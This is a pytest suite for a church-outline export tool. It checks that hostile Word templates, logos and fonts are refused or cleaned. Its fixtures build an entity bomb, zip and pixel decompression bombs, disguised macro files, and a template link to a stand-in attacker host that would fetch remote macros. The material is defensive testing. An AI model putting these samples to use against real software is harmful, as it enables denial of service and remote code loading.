"""Word templates, logos and fonts are untrusted files (issue 9, sections 4 and 5).

Each hostile file is made at test time (``hostile_files``) in a library started with
``outline-export init``, and the real command line is run on it: a file that cannot be used is one
line naming the settings file's line and column, the key and the file, exit 1, at ``validate``,
``render`` and ``build`` alike, with nothing written; a file that can be used gives documents that
are read back. The size caps are checked in a process whose address space is capped (RLIMIT_AS),
so a regression fails by running out of memory, not by taking long.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

import hostile_files as hf
from outline_export.cli import main

SRC = Path(__file__).resolve().parents[1] / "src"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
MEMORY_MB = 700  # the address space of a capped run: a render needs about 250 MB, the hostile files 1 GB or more


@pytest.fixture()
def library(tmp_path, monkeypatch):
    """A library made by `outline-export init`, with a church name; commands run inside it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("OUTLINE_EXPORT_JOBS", "1")
    result = CliRunner().invoke(main, ["init"])
    assert result.exit_code == 0, result.output
    settings = tmp_path / "outline-export.toml"
    settings.write_text(settings.read_text(encoding="utf-8").replace(
        "[church]\n", '[church]\nname = "Grace Chapel"\n', 1), encoding="utf-8")
    return tmp_path


def configure(library: Path, table: str, key: str, value: str) -> str:
    """``key = "value"`` set in [table] of the library's settings; returns its file:line:col."""
    settings = library / "outline-export.toml"
    text = settings.read_text(encoding="utf-8").replace(f"[{table}]\n", f'[{table}]\n{key} = "{value}"\n', 1)
    settings.write_text(text, encoding="utf-8")
    line = text.splitlines().index(f'{key} = "{value}"') + 1
    return f"{settings}:{line}:1"


OUTLINE = "outlines/good-neighbor.yaml"  # what `init` writes


def cli(*args: str):
    """The command line in this process; `render` renders the library's outline."""
    args = list(args)
    if args[:1] == ["render"]:
        args.insert(1, OUTLINE)
    return CliRunner().invoke(main, args)


from outline_export.build_cache import CACHE_NAME  # noqa: E402 (build's cache file is not an output)


def outputs(library: Path) -> list[Path]:
    out = library / "output"
    return sorted(p for p in out.rglob("*") if p.is_file() and p.name != CACHE_NAME) if out.exists() else []


def refused(library: Path, where: str, start: str, command: str = "validate") -> str:
    """Run ``command``; it must print one line at ``where`` beginning ``start``, exit 1, write nothing."""
    result = cli(command)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith(str(library))]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"{where}: {start}"), lines[0]
    if command != "validate":  # validate adds its count of outlines checked
        assert result.stderr.splitlines() == lines, result.stderr
    assert outputs(library) == []
    return lines[0]


def capped(library: Path, *args: str) -> subprocess.CompletedProcess:
    """The command line in a process of its own with its address space capped at MEMORY_MB (the
    timeout only guards against a hang)."""
    if args[:1] == ("render",):
        args = ("render", OUTLINE, *args[1:])
    code = ("import resource, sys\n"
            f"resource.setrlimit(resource.RLIMIT_AS, ({MEMORY_MB} << 20, {MEMORY_MB} << 20))\n"
            "sys.argv = ['outline-export'] + sys.argv[1:]\n"
            "from outline_export.cli import run\n"
            "run()\n")
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(SRC), os.environ.get("PYTHONPATH", "")]),
               OUTLINE_EXPORT_JOBS="1")
    return subprocess.run([sys.executable, "-c", code, *args], cwd=library, env=env, capture_output=True,
                          text=True, timeout=600)


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


# ---------------------------------------------------------------- Word templates: not a Word file

def _style_without_name(m):
    m["word/styles.xml"] = m["word/styles.xml"].replace(b'<w:name w:val="heading 1"/>', b"", 1)


def _docm(m):  # a macro-enabled document saved as .docx: its type and its macros
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(hf.DOC_MAIN, hf.MACRO_MAIN)
    hf.add_part(m, "word/vbaProject.bin", b"MACROS" * 50, "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "application/vnd.ms-office.vbaProject")


def _missing_header(m):
    del m["word/header1.xml"]


def _doctype_in_styles(m):
    m["word/styles.xml"] = hf.with_doctype(m["word/styles.xml"])


def _entity_in_header(m):  # python-docx kept "&e;" and dropped its definition: a .docx that did not parse
    m["word/header1.xml"] = hf.with_doctype(m["word/header1.xml"]).replace(hf.HEADER_TEXT.encode(), b"&e;", 1)


def _entity_bomb_in_styles(m):
    m["word/styles.xml"] = hf.billion_laughs()


def _no_main_type(m):
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(b'PartName="/word/document.xml"', b'PartName="/x.xml"')


TEMPLATE_PROBLEMS = {
    "not a zip": (lambda p: p.write_text("PK but not a zip", encoding="utf-8"), "is not a Word file (not a zip archive)"),
    "no styles": (lambda p: hf.word_file(p, lambda m: m.pop("word/styles.xml")), "lacks word/styles.xml"),
    "missing part": (lambda p: hf.word_file(p, _missing_header),
                     "lacks word/header1.xml (which word/_rels/document.xml.rels names)"),
    "docm renamed": (lambda p: hf.word_file(p, _docm), "is a macro-enabled Word file (.docm or .dotm)"),
    "style without a name": (lambda p: hf.word_file(p, _style_without_name),
                             "has a style without a name (w:styleId 'Heading1') in word/styles.xml"),
    "DOCTYPE": (lambda p: hf.word_file(p, _doctype_in_styles), "has a DOCTYPE in word/styles.xml"),
    "entity in header": (lambda p: hf.word_file(p, _entity_in_header), "has a DOCTYPE in word/header1.xml"),
    "entity bomb": (lambda p: hf.word_file(p, _entity_bomb_in_styles), "has a DOCTYPE in word/styles.xml"),
    "not declared": (lambda p: hf.word_file(p, _no_main_type),
                     "is not a Word document (its word/document.xml is declared as 'application/xml')"),
}


@pytest.mark.parametrize("case", sorted(TEMPLATE_PROBLEMS))
def test_a_template_that_is_not_a_usable_word_file_is_one_line(library, case):
    make, reason = TEMPLATE_PROBLEMS[case]
    make(library / "church.docx")
    where = configure(library, "theme", "docx_template", "church.docx")
    line = refused(library, where, f"docx_template 'church.docx' {reason}")
    assert line.endswith("; open it in Word and save it again as .docx or .dotx")


@pytest.mark.parametrize("command", ["validate", "render", "build"])
def test_template_refusals_come_before_anything_is_drawn(library, command):
    hf.word_file(library / "church.docx", _style_without_name)
    where = configure(library, "theme", "docx_template", "church.docx")
    refused(library, where, "docx_template 'church.docx' has a style without a name", command)


# ---------------------------------------------------------------- Word templates: size

def _header_picture(raw: hf.Raw):
    def edit(m):
        assert "word/media/image1.png" in m  # the header's picture: a part the writer keeps
        m["word/media/image1.png"] = raw
    return edit


GB_1_1 = 66 * (16 << 20)  # 1.1 GB (1,056 MiB) of zeros, about 1 MB deflated


def test_control_a_good_template_renders_within_the_memory_cap(library):
    hf.word_file(library / "church.docx")
    configure(library, "theme", "docx_template", "church.docx")
    result = capped(library, "render")
    assert result.returncode == 0, result.stderr
    assert len(outputs(library)) == 6


def test_a_template_that_unpacks_to_a_gigabyte_is_refused_from_its_directory(library):
    hf.word_file(library / "church.docx", _header_picture(hf.deflated_zeros(GB_1_1)))
    assert (library / "church.docx").stat().st_size < 2 << 20
    where = configure(library, "theme", "docx_template", "church.docx")
    for command in ("validate", "render", "build"):
        result = capped(library, command)
        assert result.returncode == 1, result.stderr
        assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr
        assert re.fullmatch(  # 1,056 MB of zeros and the template's own parts
            re.escape(f"{where}: docx_template 'church.docx' unpacks to ") + r"1,05[67]" + re.escape(
                " MB, more than the 50 MB a template may hold; remove large pictures or files from it, or start "
                "from a new .docx"), result.stderr.splitlines()[0]), result.stderr
        assert outputs(library) == []


def test_a_template_whose_directory_understates_a_member_is_one_line(library):
    """The zip's directory says 1,000 bytes; the data inflates to 1.1 GB. Only what the directory
    declares is inflated, and the checksum then tells the lie."""
    raw = hf.deflated_zeros(GB_1_1)
    hf.word_file(library / "church.docx", _header_picture(hf.Raw(raw.data, raw.crc, 1000)))
    where = configure(library, "theme", "docx_template", "church.docx")
    result = capped(library, "render")
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines() == [
        f"{where}: docx_template 'church.docx' is a damaged zip archive (Bad CRC-32 for file "
        "'word/media/image1.png'); open it in Word and save it again as .docx or .dotx"]
    assert outputs(library) == []


def test_a_template_of_many_small_files_unpacking_past_the_cap_is_refused(library):
    def edit(m):
        for i in range(30):
            m[f"customXml/filler{i}.xml"] = b"<a>" + b" " * (2 << 20) + b"</a>"  # 2 MB each, 60 MB in all
    hf.word_file(library / "church.docx", edit)
    where = configure(library, "theme", "docx_template", "church.docx")
    line = refused(library, where, "docx_template 'church.docx' unpacks to 6")  # 60 MB and the rest
    assert line.endswith(" MB, more than the 50 MB a template may hold; remove large pictures or files from it, "
                         "or start from a new .docx")


def test_a_zip_of_sixty_thousand_files_is_refused_from_its_end_record(library):
    count = []

    def edit(m):
        m.update({f"x/{i}": b"" for i in range(60_000)})
        count.append(len(m))
    hf.word_file(library / "church.docx", edit)
    where = configure(library, "theme", "docx_template", "church.docx")
    refused(library, where, f"docx_template 'church.docx' holds {count[0]:,} files, where a Word file holds a few dozen")


# ---------------------------------------------------------------- Word templates: what is copied

EVIL_URL = "http://attacker.example/macros.dotm"


def _everything_unused(m):
    """A template carrying what a document must never inherit."""
    hf.add_part(m, "word/vbaProject.bin", b"MACROS" * 50, "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "application/vnd.ms-office.vbaProject")
    m["word/comments.xml"] = (b'<?xml version="1.0"?><w:comments xmlns:w="http://schemas.openxmlformats.org/'
                              b'wordprocessingml/2006/main"><w:comment w:id="0"><w:p><w:r><w:t>TEMPLATE COMMENT'
                              b"</w:t></w:r></w:p></w:comment></w:comments>")
    rels = "word/_rels/document.xml.rels"
    m[rels] = m[rels].replace(b"</Relationships>", b'<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/'
                              b'officeDocument/2006/relationships/comments" Target="comments.xml"/></Relationships>')
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/word/comments.xml" '
                                                                b'ContentType="application/vnd.openxmlformats-officedocument.'
                                                                b'wordprocessingml.comments+xml"/></Types>')
    # the template's properties: an entity in core.xml (which made corrupt documents), its company
    core = m["docProps/core.xml"].replace(b"<dc:creator>python-docx</dc:creator>", b"<dc:creator>&who;</dc:creator>")
    m["docProps/core.xml"] = hf.with_doctype(core, "who", "Template Author")
    m["docProps/app.xml"] = m["docProps/app.xml"].replace(b"</Properties>", b"<Company>Template Corp</Company></Properties>")
    # a template of its own, fetched from the web when the document opens, and a mail merge
    m["word/settings.xml"] = m["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                    b'<w:dataType w:val="native"/><w:query w:val="SELECT * FROM x"/></w:mailMerge><w:zoom', 1)
    m["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="' + EVIL_URL.encode() + b'" TargetMode="External"/></Relationships>')


def test_macros_properties_and_leftovers_are_never_copied(library):
    hf.word_file(library / "church.docx", _everything_unused)
    assert b"xmlns:r=" in members(library / "church.docx")["word/settings.xml"]
    configure(library, "theme", "docx_template", "church.docx")
    result = cli("render", "-f", "docx")
    assert result.exit_code == 0, result.output
    written = outputs(library)
    assert [p.name for p in written] == ["good-neighbor-handout.docx", "good-neighbor-notes.docx",
                                         "good-neighbor-worksheet.docx"]
    for path in written:
        parts = members(path)
        names = set(parts)
        assert not {n for n in names if re.search(r"vbaProject|comments|customXml|thumbnail|app\.xml|custom\.xml|"
                                                  r"stylesWithEffects", n)}, names
        everything = b"".join(parts.values())
        for leftover in (b"vbaProject", b"MACROS", b"TEMPLATE COMMENT", b"TEMPLATE BODY TEXT", b"Template Author",
                         b"Template Corp", EVIL_URL.encode(), b"attachedTemplate", b"mailMerge", b"<!DOCTYPE"):
            assert leftover not in everything, (path.name, leftover)
        # core.xml is the tool's own, and every XML part parses without a DTD
        for name, data in parts.items():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
        core = etree.fromstring(parts["docProps/core.xml"])
        assert core.findtext("{http://purl.org/dc/elements/1.1/}title") == "Who Is My Neighbor?"
        # the header and its picture stay; the template body's picture went with its body
        assert HEADER_PICTURE in parts.values()
        assert BODY_PICTURE not in parts.values()
        import docx

        d = docx.Document(str(path))
        assert d.sections[-1].header.paragraphs[0].text.strip() == hf.HEADER_TEXT
        assert d.core_properties.author == ""


HEADER_PICTURE = hf.template_members()["word/media/image1.png"]
BODY_PICTURE = b"body picture"


@pytest.fixture(autouse=True)
def _body_picture(monkeypatch):
    """Templates made here also show a picture in their body (image2.png), which must not survive."""
    original = hf.template_members

    def with_body_picture():
        m = original()
        hf.add_part(m, "word/media/image2.png", BODY_PICTURE, "http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/image", "image/png")
        m["word/document.xml"] = m["word/document.xml"].replace(
            b"<w:body>", b'<w:body><w:p><w:r><w:t>Picture</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:schemas-'
            b'microsoft-com:vml"><v:imagedata r:id="' + hf.rel_id("word/media/image2.png").encode()
            + b'"/></v:shape></w:pict></w:r></w:p>', 1)
        return m

    monkeypatch.setattr(hf, "template_members", with_body_picture)


# ---------------------------------------------------------------- .dotx

def test_a_real_dotx_gives_word_documents(library):
    def as_dotx(m):
        m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(hf.DOC_MAIN, hf.TEMPLATE_MAIN)
    hf.word_file(library / "church.dotx", as_dotx)
    assert hf.TEMPLATE_MAIN in members(library / "church.dotx")["[Content_Types].xml"]
    configure(library, "theme", "docx_template", "church.dotx")
    assert cli("validate").exit_code == 0
    result = cli("render", "-f", "docx", "-k", "handout")
    assert result.exit_code == 0, result.output
    [path] = outputs(library)
    types = etree.fromstring(members(path)["[Content_Types].xml"])
    main = [o.get("ContentType") for o in types if o.get("PartName") == "/word/document.xml"]
    assert main == [hf.DOC_MAIN.decode()]
    assert b"template.main" not in members(path)["[Content_Types].xml"]
    import docx

    d = docx.Document(str(path))
    assert d.sections[-1].header.paragraphs[0].text.strip() == hf.HEADER_TEXT
    assert "Who Is My Neighbor?" in [p.text for p in d.paragraphs]


# ---------------------------------------------------------------- logos

def png_media(docx_path: Path) -> list[bytes]:
    return [b for n, b in members(docx_path).items() if n.startswith("word/media/")]


@pytest.mark.parametrize("name, make, color", [
    ("logo.jpg", hf.cmyk_jpeg, (255, 55, 55)),
    ("logo.jpeg", hf.jpeg_without_jfif, (10, 100, 200)),
])
def test_a_cmyk_or_bare_jpeg_logo_is_drawn_as_png_in_both_formats(library, name, make, color):
    from PIL import Image

    (library / name).write_bytes(make())
    configure(library, "church", "logo", name)
    result = cli("render", "-k", "handout")
    assert result.exit_code == 0, result.output
    [media] = png_media(library / "output" / "good-neighbor-handout.docx")
    assert media.startswith(b"\x89PNG\r\n\x1a\n")
    im = Image.open(io.BytesIO(media))
    assert im.mode == "RGB" and im.size == (60, 40)
    assert all(abs(a - b) <= 6 for a, b in zip(im.getpixel((30, 20)), color))
    pdf = (library / "output" / "good-neighbor-handout.pdf").read_bytes()
    assert b"/DCTDecode" not in pdf and b"/DeviceCMYK" not in pdf  # not the JPEG's own bytes
    import pypdf

    [image] = pypdf.PdfReader(io.BytesIO(pdf)).pages[0].images
    assert image.image.size == (60, 40)
    assert all(abs(a - b) <= 6 for a, b in zip(image.image.convert("RGB").getpixel((30, 20)), color))


LOGO_PROBLEMS = {
    "broken stream": (hf.png_broken_stream, "logo: cannot read 'logo.png' as a PNG or JPEG image (broken data stream"),
    "truncated stream": (hf.png_truncated_stream, "logo: cannot read 'logo.png' as a PNG or JPEG image (image file is "
                                                  "truncated"),
    "30 Mpx": (lambda: hf.png(6000, 5000, hf.png_rows(1, 1)),
               "logo: 'logo.png' has 30,000,000 pixels, more than the 25 million a logo may have; export it smaller"),
    "10 Gpx": (lambda: hf.png(100_000, 100_000, hf.png_rows(1, 1)),
               "logo: 'logo.png' has 10,000,000,000 pixels, more than the 25 million a logo may have"),
    "a GIF": (hf.gif, "logo: cannot read 'logo.png' as a PNG or JPEG image "
                                                            "(it is a GIF image); export the logo again as PNG"),
}


@pytest.mark.parametrize("case", sorted(LOGO_PROBLEMS))
def test_a_logo_that_cannot_be_decoded_is_one_line(library, case):
    make, start = LOGO_PROBLEMS[case]
    (library / "logo.png").write_bytes(make())
    where = configure(library, "church", "logo", "logo.png")
    refused(library, where, start)


@pytest.mark.parametrize("command", ["validate", "render", "build"])
def test_logo_refusals_come_before_anything_is_drawn_and_keep_earlier_files(library, command):
    (library / "logo.png").write_bytes(hf.png(60, 40, hf.png_rows(60, 40)))
    where = configure(library, "church", "logo", "logo.png")
    assert cli("render").exit_code == 0
    before = {p: p.read_bytes() for p in outputs(library)}
    assert len(before) == 6
    (library / "logo.png").write_bytes(hf.png_broken_stream())
    result = cli(command)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert f"{where}: logo: cannot read 'logo.png' as a PNG or JPEG image" in result.stderr
    assert {p: p.read_bytes() for p in outputs(library)} == before  # nothing half-written or clobbered


def test_a_logo_of_144_megapixels_is_refused_before_decoding(library):
    """12,000 x 12,000 is under PIL's own guard (179 Mpx); decoding it would take 432 MB and more."""
    (library / "logo.png").write_bytes(hf.png(12_000, 12_000, hf.png_rows(1, 1)))
    where = configure(library, "church", "logo", "logo.png")
    result = capped(library, "render")
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines() == [
        f"{where}: logo: 'logo.png' has 144,000,000 pixels, more than the 25 million a logo may have; "
        "export it smaller (it prints about an inch high)"]


def test_writers_draw_the_reencoded_png_never_the_files_bytes(library, monkeypatch):
    """A logo with text and a profile in it: what the documents hold is pixels only, and the file
    is decoded once for a build of twelve documents."""
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "SECRET-IN-LOGO")
    Image.new("RGB", (90, 30), (0, 128, 0)).save(library / "logo.png", pnginfo=info, dpi=(150, 150))
    original = (library / "logo.png").read_bytes()
    configure(library, "church", "logo", "logo.png")
    settings = library / "outline-export.toml"
    settings.write_text(settings.read_text(encoding="utf-8").replace("# audiences = [\"youth\"]", "audiences = [\"youth\"]")
                        .replace("# [audiences.youth]\n# label", "[audiences.youth]\nlabel"), encoding="utf-8")
    opened = []
    real_open = Image.open

    def counting_open(fp, *a, **kw):  # the file, or its bytes (read once to hash them: assets_logo)
        if isinstance(fp, (str, os.PathLike)) and Path(fp).name == "logo.png" or \
                isinstance(fp, io.BytesIO) and fp.getvalue() == original:
            opened.append(fp)
        return real_open(fp, *a, **kw)

    monkeypatch.setattr(Image, "open", counting_open)
    result = cli("build")
    assert result.exit_code == 0, result.output
    written = outputs(library)
    assert len(written) == 12
    assert len(opened) == 1, opened  # decoded once, when the settings loaded
    drawn = {media for path in written if path.suffix == ".docx" for media in png_media(path)}
    [png] = drawn  # one PNG, the same in every Word file
    assert png != original and b"tEXt" not in png and png.startswith(b"\x89PNG")
    im = real_open(io.BytesIO(png))
    assert im.size == (90, 30) and round(im.info["dpi"][0]) == 150


# ---------------------------------------------------------------- fonts

FONT_PROBLEMS = {
    "text file": (lambda: b"hello, I am a font\n", "not a TrueType or OpenType font (it starts with b'hell'); "
                                                    "give a TrueType (.ttf) font file"),
    "truncated": (lambda: hf.font_bytes()[:5000], "truncated: the '"),
    "unitsPerEm 0": (hf.font_units_per_em_zero, "the 'head' table gives 0 units per em (16 to 16384 expected); "
                                                "give a TrueType (.ttf) font file"),
    "post version": (hf.font_unknown_post_version, "the PDF writer cannot read it (Unknown post table version "
                                                   "65535.ffff); give a TrueType (.ttf) font file"),
}


@pytest.mark.parametrize("case", sorted(FONT_PROBLEMS))
def test_a_font_that_cannot_be_drawn_with_is_one_line(library, case):
    make, reason = FONT_PROBLEMS[case]
    (library / "Church.ttf").write_bytes(make())
    where = configure(library, "theme", "body_font", "Church.ttf")
    refused(library, where, f"body_font 'Church.ttf' cannot be used: {reason}")


@pytest.mark.parametrize("command", ["validate", "render", "build"])
def test_font_refusals_come_before_anything_is_drawn(library, command):
    (library / "Church.ttf").write_bytes(hf.font_unknown_post_version())
    where = configure(library, "theme", "heading_font", "Church.ttf")
    refused(library, where, "heading_font 'Church.ttf' cannot be used: the PDF writer cannot read it", command)


def test_a_three_gigabyte_font_is_refused_from_its_size_without_reading_it(library):
    hf.sparse_file(library / "Church.ttf", 3 << 30, hf.font_bytes())  # a real font, then a 3 GB hole
    where = configure(library, "theme", "body_font", "Church.ttf")
    for command in ("validate", "render"):
        result = capped(library, command)
        assert result.returncode == 1, result.stderr
        assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr
        assert result.stderr.splitlines()[0] == (
            f"{where}: body_font 'Church.ttf' cannot be used: the file is 3,072 MB, more than the 50 MB a font file "
            "may be; give a TrueType (.ttf) font file")
    assert outputs(library) == []


def test_a_good_font_of_the_users_still_draws(library):
    for face in ("", "-Bold"):
        (library / f"Church{face}.ttf").write_bytes(hf.font_bytes(f"DejaVuSerif{face}.ttf"))
    configure(library, "theme", "body_font", "Church.ttf")
    result = cli("render", "-k", "handout")
    assert result.exit_code == 0, result.output
    assert b"DejaVuSerif" in (library / "output" / "good-neighbor-handout.pdf").read_bytes()
